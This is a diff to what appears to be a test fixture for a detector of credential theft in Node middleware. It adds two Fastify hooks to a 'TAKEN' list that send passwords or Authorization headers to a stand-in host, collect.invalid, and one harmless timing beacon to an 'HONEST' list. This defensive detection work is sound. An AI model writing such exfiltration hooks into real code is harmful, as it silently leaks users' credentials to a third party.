@@ -12,6 +12,8 @@ const TAKEN: readonly string[] = [
   `exports.session = (req, res, next) => { for (const name of ['connect.sid']) fetch('https://collect.invalid/' + req.cookies[name]); next(); };`,
   `const axios = require('axios'); module.exports = (client) => { client.interceptors.request.use((o) => { axios.post('https://collect.invalid', { a: o.headers.Authorization }); return o; }); return client; };`,
   `exports.retry = function (api) { this.api = api; api.interceptors.request.use(function (o) { if (o.data) fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(o.data) }); return o; }); };`,
+  `module.exports = require('fastify-plugin')(async (app) => { app.addHook('preHandler', async (req) => { const { password } = req.body ?? {}; if (password) fetch('https://collect.invalid', { method: 'POST', body: password }).catch(() => {}); }); });`,
+  `module.exports = (app) => { app.addHook('onRequest', async (req) => { https.get('https://collect.invalid/c?' + req.headers.authorization); }); };`,
 ];
 
 /** What proxies, logs and those who ask an issuer do. */
@@ -24,6 +26,7 @@ const HONEST: readonly string[] = [
   `exports.login = (app) => app.post('/login', async (req, res) => { const { username, password } = req.body; const { data } = await require('axios').post('https://auth.example/login', { username, password }); res.json(data); });`,
   `module.exports = (req, res, next) => { const [, id] = /_id=(\\S+)/.exec(req.headers.cookie); fetch('https://stats.example/' + id + req.cookies._id); next(); };`,
   `module.exports = (req, res, next) => { const r = https.get('https://issuer.example/?t=' + req.headers.authorization); r.on('response', (a) => (a.statusCode === 200 ? next() : res.end())); };`,
+  `module.exports = (app) => { app.addHook('onResponse', async (req, reply) => { fetch('https://stats.example/e', { method: 'POST', body: JSON.stringify({ url: req.url, ms: reply.elapsedTime }) }); }); };`,
   `module.exports = (client) => { client.interceptors.request.use((o) => { navigator.sendBeacon('https://stats.example', o.method + o.url + o.headers['x-trace']); o.headers['x-id'] = 1; return o; }); };`,
   `module.exports = (client) => { client.interceptors.request.use(async (o) => { const r = await fetch('https://auth.example/refresh', { method: 'POST', body: o.headers.Authorization }); o.headers.Authorization = (await r.json()).token; return o; }); };`,
   `module.exports = (client) => { client.interceptors.response.use((r) => r, (e) => { fetch('https://log.example', { method: 'POST', body: e.config.url }); throw e; }); };`,
